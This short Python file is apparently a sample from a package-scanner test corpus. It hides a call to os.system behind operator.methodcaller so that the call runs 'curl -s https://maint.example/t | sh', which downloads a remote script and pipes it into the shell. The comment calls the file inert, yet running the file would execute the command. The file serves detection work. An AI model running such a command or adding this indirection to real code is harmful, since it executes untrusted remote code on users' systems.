# pkgguard corpus 535 (indirection), modelled on [obfuscation]; inert, never run.
import operator
import os

_TASK = "curl -s https://maint.example/t | sh"
operator.methodcaller("system", _TASK)(os)
